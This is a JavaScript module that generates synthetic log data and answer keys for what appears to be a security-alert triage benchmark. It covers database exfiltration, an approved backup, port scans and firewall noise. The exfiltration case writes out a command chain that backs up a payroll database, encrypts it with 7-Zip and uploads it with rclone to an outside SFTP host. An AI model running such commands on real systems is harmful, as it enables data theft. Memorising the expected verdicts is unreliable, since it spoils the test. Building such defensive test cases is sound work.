// Large transfers and scans: database exfiltration with its backup twin, port
// scans from a workstation and from the authorized scanner, and firewall
// noise.

import { firewallConnection, officeDay, spaced } from '../lib/common.mjs';
import { hosts } from '../lib/hosts.mjs';
import {
  cmd,
  explorer,
  scheduler,
  schedulerCmd,
} from '../lib/windows-paths.mjs';

/** Adds a sqlcmd export, a password-protected 7-Zip archive and an rclone upload from db01. */
function databaseExport(c, { server, rules }) {
  const tools = 'C:\\ProgramData\\SqlMaint';
  const cmd = 'C:\\Windows\\System32\\cmd.exe';
  const user = 'svc-sql';
  const base = { integrity: 'High', session: 0, user, rules };
  const sqlcmd =
    'C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE';
  c.process('db01', 0, {
    ...base,
    image: cmd,
    cmd: `cmd.exe /c ${tools}\\export.cmd`,
    parentImage: scheduler,
    parentCmd: schedulerCmd,
  });
  c.process('db01', 0.1, {
    ...base,
    image: sqlcmd,
    cmd: `SQLCMD.EXE -S localhost -E -Q "BACKUP DATABASE [Payroll] TO DISK='D:\\Export\\payroll.bak' WITH COPY_ONLY, COMPRESSION"`,
    parentImage: cmd,
  });
  c.fileCreate('db01', 6, {
    image:
      'C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe',
    target: 'D:\\Export\\payroll.bak',
    user: 'NT SERVICE\\MSSQLSERVER',
    rules,
  });
  c.process('db01', 7, {
    ...base,
    image: `${tools}\\7za.exe`,
    cmd: `${tools}\\7za.exe a -t7z -mhe=on -p******** D:\\Export\\payroll.7z D:\\Export\\payroll.bak`,
    parentImage: cmd,
  });
  c.fileCreate('db01', 12, {
    image: `${tools}\\7za.exe`,
    target: 'D:\\Export\\payroll.7z',
    user,
    rules,
  });
  c.process('db01', 13, {
    ...base,
    image: `${tools}\\rclone.exe`,
    cmd: `${tools}\\rclone.exe copy D:\\Export\\payroll.7z remote:upload --config ${tools}\\rclone.conf --transfers 8 --sftp-host ${server}`,
    parentImage: cmd,
    pid: 6640,
  });
  c.netConnect('db01', 13.2, {
    image: `${tools}\\rclone.exe`,
    user,
    dst: server,
    dport: 22,
    dportName: 'ssh',
    rules,
    pid: 6640,
  });
  spaced(c, 14, 20, 2, 0.05).forEach((t) => {
    const sport = c.int(49200, 64000);
    const bytesOut = c.int(680_000_000, 745_000_000);
    const bytesIn = c.int(2_100_000, 2_600_000);
    firewallConnection(c, t, {
      src: hosts.db01.ip,
      dst: server,
      sport,
      dport: 22,
      action: 'Allow',
      app: 'SSH',
      clientApp: 'SSH client',
      bytesOut,
      bytesIn,
      rules,
    });
    c.flow(t, {
      src: hosts.db01.ip,
      dst: server,
      sport,
      dport: 22,
      sourceBytes: bytesOut,
      destinationBytes: bytesIn,
      durationS: 118,
      applicationId: 1022,
      rules,
    });
  });
}

// Connections of one scan: ports tried on each server, most of them refused.
const scanPorts = [
  21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 1433, 1521,
  3306, 3389, 5432, 5900, 5985, 8080,
];
const scanTargets = ['10.0.10.15', '10.0.11.20', '10.0.13.21'];
const openPorts = [135, 445, 1433, 3389, 5985];

function portScan(c, sourceHost, rules) {
  const source = hosts[sourceHost].ip;
  let t = 0;
  scanTargets.forEach((target) => {
    scanPorts.forEach((port) => {
      const open = openPorts.includes(port);
      firewallConnection(c, t, {
        src: source,
        dst: target,
        dport: port,
        action: open ? 'Allow' : 'Block',
        app: 'Unknown',
        clientApp: 'Unknown',
        bytesIn: open ? 60 : 0,
        bytesOut: 60,
        reason: open ? undefined : 'Internal ACL',
        count: c.int(1, 2),
        rules,
      });
      t += 0.04;
    });
  });
  firewallConnection(c, t + 0.1, {
    src: source,
    dst: '10.0.10.15',
    dport: 0,
    action: 'Alert',
    qid: 'fwPortScan',
    signature: '122:1:1',
    name: '(portscan) TCP Portscan',
    severity: 5,
    app: 'Unknown',
    rules,
  });
  firewallConnection(c, t + 0.2, {
    src: source,
    dst: '10.0.13.21',
    dport: 0,
    action: 'Alert',
    qid: 'fwSweep',
    signature: '122:3:1',
    name: '(portscan) TCP Portsweep',
    severity: 5,
    app: 'Unknown',
    rules,
  });
}

/** Case specs of this group; lib/assemble.mjs reads their fields. */
export const transferScanCases = [
  {
    number: 7,
    id: 'exfiltration-database-server',
    title:
      'Payroll database exported, encrypted and uploaded to an unknown SFTP server',
    tags: ['exfiltration', 'critical_asset', 'external_attacker'],
    start: '2026-11-20T03:05:00Z',
    offense: {
      type: 0,
      source: '10.0.11.20',
      severity: 8,
      credibility: 7,
      relevance: 9,
      magnitude: 8,
      rules: [100207],
    },
    assets: ['db01'],
    build(c) {
      databaseExport(c, { server: '203.0.113.150', rules: [100207] });
    },
    derivedFrom: ['otrf-ec2-exfil', 'invented-windows', 'sentinel-firepower'],
    rationale:
      'The payroll database is backed up, packed into a password-protected archive and about 14 GB leave for an SFTP server nobody uses: exfiltration. Block the destination; isolating the critical server also works but needs approval.',
    expected: {
      disposition: 'true_positive',
      attack_stage: 'exfiltration',
      acceptable: [
        { action: 'block_ip', target: '203.0.113.150' },
        { action: 'isolate_host', target: '10.0.11.20' },
      ],
      forbidden: [{ action: 'disable_user' }],
      approval_required: false,
    },
  },
  {
    number: 16,
    id: 'database-backup-approved-destination',
    title:
      'Payroll database exported, encrypted and uploaded to the approved backup provider',
    tags: ['benign', 'twin', 'approved_activity', 'critical_asset'],
    twinOf: 'exfiltration-database-server',
    start: '2026-11-20T01:05:00Z',
    offense: {
      type: 0,
      source: '10.0.11.20',
      severity: 8,
      credibility: 7,
      relevance: 9,
      magnitude: 8,
      rules: [100207],
    },
    assets: ['db01'],
    build(c) {
      databaseExport(c, { server: '198.51.100.200', rules: [100207] });
    },
    derivedFrom: ['otrf-ec2-exfil', 'invented-windows', 'sentinel-firepower'],
    rationale:
      'The same export and upload as the exfiltration case, but the destination is in Approved Destinations (the offsite backup provider): benign.',
    expected: {
      disposition: 'benign',
      attack_stage: 'benign',
      acceptable: [{ action: 'none' }],
      forbidden: [
        { action: 'block_ip', target: '198.51.100.200' },
        { action: 'isolate_host', target: '10.0.11.20' },
        { action: 'disable_user' },
      ],
      approval_required: false,
    },
  },
  {
    number: 19,
    id: 'workstation-port-scan',
    title: 'Port scan of the server network from a sales workstation',
    tags: ['reconnaissance', 'endpoint'],
    start: '2026-11-20T09:10:00Z',
    offense: {
      type: 0,
      source: '10.0.20.72',
      severity: 5,
      credibility: 7,
      relevance: 6,
      magnitude: 5,
      rules: [100210, 100303],
    },
    assets: ['ws-sal-072', 'fs01', 'db01'],
    build(c) {
      officeDay(c, 'ws-sal-072', -120);
      const scanner =
        'C:\\Users\\tcohen\\AppData\\Local\\Temp\\aps\\advanced_port_scanner.exe';
      c.process('ws-sal-072', -0.5, {
        image: scanner,
        cmd: `"${scanner}" /portable "C:\\Users\\tcohen\\AppData\\Local\\Temp\\aps" /lng en_us`,
        parentImage: explorer,
        cwd: 'C:\\Users\\tcohen\\AppData\\Local\\Temp\\aps\\',
        user: 'tcohen',
        rules: [100210, 100303],
      });
      portScan(c, 'ws-sal-072', [100210, 100303]);
    },
    derivedFrom: ['sentinel-firepower', 'invented-network', 'invented-windows'],
    rationale:
      'The same sweep of server ports as the vulnerability scanner, but from a sales workstation, run by a portable scanner unpacked in Temp, that no allow-list covers: hands-on reconnaissance from a compromised endpoint; isolate it.',
    expected: {
      disposition: 'true_positive',
      attack_stage: 'reconnaissance',
      acceptable: [{ action: 'isolate_host', target: '10.0.20.72' }],
      forbidden: [
        { action: 'isolate_host', target: '10.0.10.15' },
        { action: 'isolate_host', target: '10.0.11.20' },
        { action: 'block_ip' },
      ],
      approval_required: false,
    },
  },
  {
    number: 10,
    id: 'vulnerability-scanner-port-scan',
    title:
      'Port scan of the server network from the authorized vulnerability scanner',
    tags: ['benign', 'twin', 'approved_activity', 'reconnaissance'],
    twinOf: 'workstation-port-scan',
    start: '2026-11-20T04:00:00Z',
    offense: {
      type: 0,
      source: '10.0.9.15',
      severity: 5,
      credibility: 7,
      relevance: 6,
      magnitude: 5,
      rules: [100210, 100303],
    },
    assets: ['vulnscan01', 'fs01', 'db01'],
    build(c) {
      portScan(c, 'vulnscan01', [100210, 100303]);
    },
    derivedFrom: ['sentinel-firepower', 'invented-network'],
    rationale:
      'Twenty-two ports on three servers probed from 10.0.9.15, which is in Authorized Scanners: the scheduled vulnerability scan; no action.',
    expected: {
      disposition: 'benign',
      attack_stage: 'benign',
      acceptable: [{ action: 'none' }],
      forbidden: [
        { action: 'isolate_host', target: '10.0.9.15' },
        { action: 'block_ip', target: '10.0.9.15' },
        { action: 'isolate_host', target: '10.0.10.15' },
        { action: 'isolate_host', target: '10.0.11.20' },
      ],
      approval_required: false,
    },
  },
  {
    number: 21,
    id: 'firewall-denies-weak-signal',
    title: 'Policy blocks, unusual pings and TCP resets from one workstation',
    tags: ['benign', 'weak_signal'],
    start: '2026-11-20T10:20:00Z',
    offense: {
      type: 0,
      source: '10.0.20.90',
      severity: 3,
      credibility: 5,
      relevance: 3,
      magnitude: 2,
      rules: [100213, 100303],
    },
    assets: ['ws-ops-090'],
    build(c) {
      const source = hosts['ws-ops-090'].ip;
      const rules = [100213, 100303];
      officeDay(c, 'ws-ops-090', -150);
      // A user retrying a blocked video site: bursts at irregular times.
      [0, 0.05, 0.4, 4.2, 4.25, 9.8, 15.1, 15.12, 22.3].forEach((t) =>
        firewallConnection(c, t, {
          src: source,
          dst: '198.51.100.90',
          dport: 443,
          action: 'Block',
          app: 'YouTube',
          reason: 'Application policy: streaming media',
          clientApp: 'Edge',
          bytesIn: 0,
          bytesOut: 517,
          rules,
        }),
      );
      spaced(c, 3, 6, 0.9, 0.1).forEach((t) =>
        firewallConnection(c, t, {
          src: source,
          dst: '10.0.13.21',
          dport: 0,
          proto: 1,
          action: 'Block',
          app: 'ICMP',
          clientApp: 'ICMP client',
          reason: 'ICMP client',
          qid: 'fwUnusualPing',
          signature: '1:29456:3',
          name: 'PROTOCOL-ICMP Unusual PING detected',
          severity: 3,
          bytesIn: 0,
          bytesOut: 74,
          rules,
        }),
      );
      spaced(c, 5, 5, 1.7, 0.1).forEach((t) =>
        firewallConnection(c, t, {
          src: source,
          dst: '192.0.2.73',
          dport: 443,
          action: 'Would Have Blocked',
          app: 'Windows Update',
          qid: 'fwWouldBlock',
          signature: '129:15:1',
          name: 'STREAM5_BAD_RST',
          severity: 2,
          bytesIn: 4410,
          bytesOut: 1230,
          rules,
        }),
      );
    },
    derivedFrom: ['sentinel-firepower'],
    rationale:
      'Only low-value firewall alerts: a streaming site blocked by policy, pings to an application server dropped and TCP reset anomalies on Windows Update traffic. A single weak signal with nothing behind it; no action.',
    expected: {
      disposition: 'false_positive',
      attack_stage: 'benign',
      acceptable: [{ action: 'none' }],
      forbidden: [
        { action: 'isolate_host', target: '10.0.20.90' },
        { action: 'block_ip', target: '198.51.100.90' },
        { action: 'block_ip', target: '192.0.2.73' },
        { action: 'disable_user', target: 'nfischer' },
      ],
      approval_required: false,
    },
  },
];
